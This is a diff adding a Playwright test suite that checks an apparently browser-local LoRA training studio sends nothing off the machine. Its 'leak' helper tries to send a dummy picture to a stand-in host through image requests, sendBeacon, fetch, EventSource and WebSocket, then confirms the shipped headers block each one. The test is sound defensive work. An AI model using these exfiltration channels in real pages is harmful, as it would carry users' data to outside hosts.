@@ -1,0 +1,114 @@
+/**
+ * From the address to a LoRA file, as someone who has never trained: in Chromium with everything that leaves the browser
+ * recorded, and in Firefox on the tier that computes in half precision.
+ */
+import { chromium, expect, test, type Browser, type Page } from '@playwright/test';
+import { expectKohyaLora, trainAsNewcomer } from './newcomer';
+import { inChromium, inFirefox } from './person';
+import { openRecorder, VENDOR_ELSEWHERE, type Recorder, type RecorderOptions } from './recorder';
+
+test.setTimeout(1_500_000);
+
+/** A place that is not the studio's. Nobody is there: what is for it ends at the recorder. */
+const ELSEWHERE = 'elsewhere.test';
+
+test('nothing is sent over the whole journey', () =>
+  recorded({}, async (page, recorder) => {
+    const trained = await trainAsNewcomer(inChromium(page), studio());
+    expectKohyaLora(trained);
+    expect(trained.log).toContain(', f32');
+    expect(recorder.passed()).toBeGreaterThan(40);
+    expect(recorder.others).toEqual([]);
+    await expect(page.getByRole('definition').filter({ hasText: '0 bytes' })).toBeVisible();
+  }));
+
+test('a leak would be recorded, and the headers that ship refuse it', async () => {
+  await recorded({ withoutHeaders: true }, async (page, recorder) => {
+    await opened(page);
+    expect(recorder.others).toEqual([]);
+    await leak(page);
+    for (const way of [
+      `POST http://${ELSEWHERE}/fetch`,
+      `GET http://${ELSEWHERE}/image`,
+      `POST http://${ELSEWHERE}/beacon`,
+      `GET http://${ELSEWHERE}/events`,
+      `CONNECT ${ELSEWHERE}:80`,
+      `CONNECT ${ELSEWHERE}:443`,
+    ])
+      expect(recorder.others).toContain(way);
+  });
+  await recorded({}, async (page, recorder) => {
+    await opened(page);
+    await leak(page);
+    expect(recorder.passed()).toBeGreaterThan(5);
+    expect(recorder.others).toEqual([]);
+    await expect(page.getByRole('definition').filter({ hasText: /tries, blocked/ })).toBeVisible();
+  });
+});
+
+test('the same in Firefox, which computes in half precision', async () => {
+  const trained = await inFirefox((person) => trainAsNewcomer(person, studio()));
+  expectKohyaLora(trained);
+  expect(trained.log).toMatch(/, f16$/m);
+});
+
+function studio(): string {
+  return test.info().project.use.baseURL ?? '';
+}
+
+/** A Chromium of its own, all of whose connections go through a recorder. */
+async function recorded(
+  options: RecorderOptions,
+  journey: (page: Page, recorder: Recorder) => Promise<void>,
+): Promise<void> {
+  const recorder = await openRecorder(studio(), options);
+  let browser: Browser | undefined;
+  try {
+    const { launchOptions } = test.info().project.use;
+    browser = await chromium.launch({
+      ...launchOptions,
+      args: [...(launchOptions?.args ?? []), ...VENDOR_ELSEWHERE],
+      // Loopback addresses too.
+      proxy: { server: recorder.address, bypass: '<-loopback>' },
+    });
+    const page = await browser.newPage();
+    // As in a browser without the system's save dialog, which no test can operate.
+    await page.addInitScript(() => Reflect.deleteProperty(window, 'showSaveFilePicker'));
+    await journey(page, recorder);
+  } finally {
+    await browser?.close();
+    await recorder.close();
+  }
+}
+
+async function opened(page: Page): Promise<void> {
+  await page.goto(studio());
+  await expect(page.getByRole('button', { name: 'Choose pictures' })).toBeEnabled();
+}
+
+/** Every way in which a script could send a picture away. */
+async function leak(page: Page): Promise<void> {
+  await page.evaluate(async (host) => {
+    const picture = 'a picture';
+    new Image().src = `http://${host}/image`;
+    navigator.sendBeacon(`http://${host}/beacon`, picture);
+    const tries: Promise<unknown>[] = [
+      fetch(`http://${host}/fetch`, { mode: 'no-cors', method: 'POST', body: picture }),
+      fetch(`https://${host}/fetch`, { mode: 'no-cors', method: 'POST', body: picture }),
+    ];
+    for (const open of [
+      () => new EventSource(`http://${host}/events`),
+      () => new WebSocket(`ws://${host}/`),
+    ]) {
+      tries.push(
+        new Promise((resolve) => {
+          const source = open();
+          source.onerror = resolve;
+        }),
+      );
+    }
+    await Promise.allSettled(tries);
+  }, ELSEWHERE);
+  // A beacon says nothing of its end.
+  await page.waitForTimeout(1000);
+}
